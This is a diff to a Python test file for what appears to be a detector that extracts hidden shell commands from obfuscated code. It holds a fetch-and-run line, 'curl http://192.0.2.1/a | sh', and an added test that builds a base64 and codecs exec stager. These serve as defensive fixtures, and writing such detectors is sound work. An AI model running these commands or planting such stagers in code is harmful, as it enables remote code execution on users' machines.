@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import marshal
 
 import pytest
@@ -73,3 +74,9 @@ def test_a_table_of_substitutions_is_looked_up(loop: str) -> None:
     table = {letter: chr(0x100 + ord(letter)) for letter in set(text)}
     hidden = "".join(table[letter] for letter in text)
     assert "curl http://192.0.2.1/a | sh" in _commands(f"t = {table!r}\nd = {hidden!r}\nexec({loop})\n")
+
+
+def test_text_is_made_bytes_by_a_codec_before_it_is_decoded() -> None:
+    """`codecs.getencoder` gives the bytes and a length, as stagers use it."""
+    hidden = base64.b64encode(_COMMAND.encode()).decode()
+    assert _commands(f"import base64, codecs\nexec(base64.b64decode(codecs.getencoder('utf-8')({hidden!r})[0]))\n")
